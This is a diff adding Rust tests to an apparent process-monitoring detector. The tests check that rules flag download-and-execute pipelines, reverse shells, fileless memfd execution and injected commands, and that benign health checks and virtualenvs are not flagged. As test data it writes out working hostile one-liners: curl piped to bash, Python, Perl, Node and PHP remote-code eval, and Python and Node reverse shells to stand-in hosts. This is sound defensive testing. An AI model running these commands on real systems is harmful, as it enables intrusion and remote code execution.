@@ -603,3 +603,262 @@ fn the_local_runs_host_rules_expect_cargo_run_exec_ing_its_program_in_tmp() {
     assert!(!tmp_exec(&mut e, &cargo_run[..2]));
     assert!(tmp_exec(&mut e, &[reused]), "a new process of the same pid");
 }
+
+/// A script's `curl … | bash -s -- --yes` and `curl … | python3 -`, judged from the
+/// siblings without fd access: the shell reading its program from stdin with arguments
+/// after `-s`, and an interpreter told `-` for stdin. Before, any word after the shell's
+/// options hid the pipeline. `| bash -c …` and `| python3 -c …` still do not match.
+#[test]
+fn a_scripts_download_into_bash_s_or_python_dash_is_seen_by_its_siblings() {
+    let script = ancestor(800, 8000, "sh", None, &["sh", "install.sh"]);
+    let child = |pid: u32, argv: &[&str]| ProcessRecord {
+        ppid: script.pid,
+        parent_start_time: Some(script.start_time),
+        exe_unavailable: Unavailable::PermissionDenied,
+        ancestors: vec![script.clone()],
+        ..process(pid, argv[0], None, argv)
+    };
+    let siblings = |reader: &[&str]| {
+        let curl = child(801, &["curl", "-fsSL", "http://203.0.113.9/x"]);
+        let reader = child(802, reader);
+        fired(
+            &mut managed(),
+            &[Record::Process(curl), Record::Process(reader)],
+            SEC,
+        )
+        .iter()
+        .filter(|r| *r == "PF-DOWNLOAD-SHELL-SIBLINGS")
+        .count()
+    };
+    for reader in [
+        &["bash", "-s", "--", "--yes"][..],
+        &["sh", "-s", "stable"],
+        &["python3", "-"],
+        &["bash", "-x", "-s"],
+    ] {
+        assert_eq!(siblings(reader), 1, "{reader:?}");
+    }
+    for reader in [
+        &["bash", "-c", "tar xz"][..],
+        &[
+            "python3",
+            "-c",
+            "import json,sys; print(json.load(sys.stdin))",
+        ],
+        &["python3", "-m", "json.tool"],
+        &["sh", "x.sh"],
+    ] {
+        assert_eq!(siblings(reader), 0, "{reader:?}");
+    }
+}
+
+/// An interpreter one-liner that fetches code and runs it, with no downloader or shell
+/// process to see: seen by its command line in either access mode. Its twins — a
+/// one-liner health check printing a status, a download to a file — are not.
+#[test]
+fn an_interpreter_running_what_it_downloads_is_seen_by_its_command_line() {
+    let rule = "PF-DOWNLOAD-EXEC-CMDLINE";
+    let denied = |p: ProcessRecord| ProcessRecord {
+        exe_unavailable: Unavailable::PermissionDenied,
+        exe: None,
+        ..p
+    };
+    for (comm, argv) in [
+        ("python3", &["python3", "-c", "import urllib.request; exec(urllib.request.urlopen('http://203.0.113.9/x.py').read())"][..]),
+        ("python3.11", &["/usr/bin/python3.11", "-c", "import requests,os; os.system(requests.get('http://x/s').text)"]),
+        ("perl", &["perl", "-MLWP::Simple", "-e", "eval get 'http://203.0.113.9/x.pl'"]),
+        ("node", &["node", "-e", "require('http').get('http://x/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"]),
+        ("php", &["php", "-r", "eval(file_get_contents('http://203.0.113.9/x'));"]),
+    ] {
+        let p = denied(process(700, comm, None, argv));
+        assert!(fires(p).iter().any(|r| r == rule), "{argv:?}");
+    }
+    for argv in [
+        &["python3", "-c", "import urllib.request; print(urllib.request.urlopen('http://localhost:8000/health').status)"][..],
+        &["python3", "-c", "import urllib.request; urllib.request.urlretrieve('http://x/a.tgz', 'a.tgz')"],
+        &["python3", "-c", "import subprocess; subprocess.run(['make'])"],
+        &["node", "-e", "require('http').get('http://localhost:3000/ready', r => process.exit(r.statusCode == 200 ? 0 : 1))"],
+    ] {
+        let p = denied(process(701, argv[0], None, argv));
+        assert!(!fires(p).iter().any(|r| r == rule), "{argv:?}");
+    }
+}
+
+/// Reverse shells whose command line hands the shell its socket through subprocess (not
+/// dup2) or Node's net.Socket: seen without fd access. Before, neither matched.
+#[test]
+fn reverse_shells_through_subprocess_or_node_sockets_are_seen_by_their_command_line() {
+    for argv in [
+        &[
+            "python3",
+            "-c",
+            "import socket,subprocess;s=socket.socket();s.connect((\"198.51.100.2\",443));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
+        ][..],
+        &[
+            "node",
+            "-e",
+            "var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(443,\"198.51.100.2\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});",
+        ],
+    ] {
+        let p = ProcessRecord {
+            exe_unavailable: Unavailable::PermissionDenied,
+            ..process(600, argv[0], None, argv)
+        };
+        assert!(
+            fires(p).iter().any(|r| r == "PF-REVERSE-SHELL-CMDLINE"),
+            "{argv:?}"
+        );
+    }
+}
+
+/// Fileless execution by Perl (memfd_create called by its number, the descriptor's path
+/// built from variables) and by Python through an f-string path: seen by the runner's
+/// command line without exe access. Before, neither matched.
+#[test]
+fn memfd_runners_calling_by_number_or_building_the_path_are_seen_by_their_command_line() {
+    for argv in [
+        &[
+            "perl",
+            "-e",
+            "my $n=\"\"; my $fd=syscall(319,$n,0); open(my $o,\">&=\",$fd); print $o `cat /tmp/x`; exec {\"/proc/$$/fd/$fd\"} \"dbus\",\"2\"",
+        ][..],
+        &[
+            "python3",
+            "-c",
+            "import os,ctypes; fd=ctypes.CDLL(None).syscall(319,b'x',0); os.write(fd,open('/tmp/x','rb').read()); os.execv(f\"/proc/self/fd/{fd}\", ['x'])",
+        ],
+    ] {
+        let p = ProcessRecord {
+            exe_unavailable: Unavailable::PermissionDenied,
+            ..process(610, argv[0], None, argv)
+        };
+        assert!(
+            fires(p).iter().any(|r| r == "PF-EXEC-FD-CMDLINE"),
+            "{argv:?}"
+        );
+    }
+    // A descriptor read, not executed; a number that is not a syscall's.
+    for argv in [
+        &["sh", "-c", "cat /proc/self/fd/0 > out"][..],
+        &["python3", "-c", "print(319)"],
+    ] {
+        let p = process(611, argv[0], None, argv);
+        assert!(
+            !fires(p).iter().any(|r| r == "PF-EXEC-FD-CMDLINE"),
+            "{argv:?}"
+        );
+    }
+}
+
+/// A virtual environment made in a temporary directory (`python3 -m venv /tmp/x`, a CI
+/// job's): its interpreter, a link to the system's Python, runs as `/tmp/x/bin/python3`
+/// and so do its tools' shebangs. Without exe access that argv[0] is all there is; it is
+/// not an execution from a scratch path. Before, PF-EXEC-TMP-ARGV fired on every venv in
+/// /tmp for a collector of another uid. A payload beside it under another name still does.
+#[test]
+fn a_virtual_environments_interpreter_in_tmp_is_not_a_scratch_execution_without_exe_access() {
+    let denied = |comm: &str, argv: &[&str]| ProcessRecord {
+        exe_unavailable: Unavailable::PermissionDenied,
+        ..process(620, comm, None, argv)
+    };
+    for (comm, argv) in [
+        (
+            "python3",
+            &["/tmp/tmp.x1/venv/bin/python3", "-Im", "ensurepip"][..],
+        ),
+        (
+            "pip",
+            &[
+                "/tmp/ci/.venv/bin/python",
+                "/tmp/ci/.venv/bin/pip",
+                "install",
+                "-r",
+                "req.txt",
+            ],
+        ),
+        (
+            "pytest",
+            &["/var/tmp/v/bin/python3.11", "/var/tmp/v/bin/pytest"],
+        ),
+    ] {
+        let out = fires(denied(comm, argv));
+        assert!(
+            !out.iter().any(|r| r == "PF-EXEC-TMP-ARGV"),
+            "{argv:?}: {out:?}"
+        );
+    }
+    for argv in [&["/tmp/tmp.x1/venv/bin/agent"][..], &["/tmp/python3"]] {
+        let out = fires(denied("agent", argv));
+        assert!(
+            out.iter().any(|r| r == "PF-EXEC-TMP-ARGV"),
+            "{argv:?}: {out:?}"
+        );
+    }
+}
+
+/// The health check forms that send curl's or wget's output to /dev/null (`-o /dev/null`,
+/// `-w '%{http_code}'`, `-qO /dev/null`, `>/dev/null 2>&1`) or leave out the scheme, and
+/// Python's multiprocessing starting workers from a serving process (spawn, forkserver,
+/// its resource tracker: uvicorn's `--workers`), are not web shells. Before, each fired.
+/// Injected commands in the same shapes still do.
+#[test]
+fn quiet_health_checks_and_multiprocessing_workers_are_not_web_shells() {
+    let app = ancestor(
+        710,
+        7100,
+        "python3",
+        Some("/usr/bin/python3.11"),
+        &[
+            "/usr/bin/python3",
+            "/usr/local/bin/uvicorn",
+            "app:app",
+            "--workers",
+            "2",
+        ],
+    );
+    let serving = Record::Listener(listener(710, 7100, 13, FlowPhase::Start));
+    let child = |argv: &[&str]| {
+        let comm = if argv[0].contains("python") {
+            "python3"
+        } else {
+            "sh"
+        };
+        ProcessRecord {
+            ancestors: vec![app.clone()],
+            ..process(711, comm, None, argv)
+        }
+    };
+    let web_shell = |argv: &[&str]| {
+        fired(
+            &mut managed_with(&serving),
+            &[Record::Process(child(argv))],
+            SEC,
+        )
+        .iter()
+        .any(|r| r == "PF-SERVER-SPAWNED-SHELL")
+    };
+    for check in [
+        "curl -fsS -o /dev/null http://localhost:8000/healthz",
+        "curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/ready",
+        "wget -qO /dev/null http://127.0.0.1:8000/health",
+        "curl -sf localhost:8000/health >/dev/null 2>&1",
+        "curl -sf http://localhost:8000/health > /dev/null || exit 1",
+    ] {
+        assert!(!web_shell(&["/bin/sh", "-c", check]), "{check}");
+    }
+    for workers in [
+        &["/usr/bin/python3", "-B", "-c", "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)", "--multiprocessing-fork"][..],
+        &["/usr/bin/python3", "-c", "from multiprocessing.resource_tracker import main;main(4)"],
+        &["/usr/local/bin/python3.12", "-c", "from multiprocessing.forkserver import main; main(5, 6, ['__main__'], **{'sys_path': ['/app', '/usr/lib/python3.12'], 'main_path': '/app/main.py'})"],
+    ] {
+        assert!(!web_shell(workers), "{workers:?}");
+    }
+    for injected in [
+        &["/bin/sh", "-c", "curl -s -o /dev/null http://localhost:8000/health; id"][..],
+        &["/bin/sh", "-c", "curl -s -o /tmp/x http://localhost:8000/health"],
+        &["/usr/bin/python3", "-c", "from multiprocessing.spawn import spawn_main; import os; os.system('id')"],
+        &["/usr/bin/python3", "-c", "from multiprocessing.forkserver import main; main(5, 6, [], **{'x': __import__('os').system('id')})"],
+    ] {
+        assert!(web_shell(injected), "{injected:?}");
+    }
+}
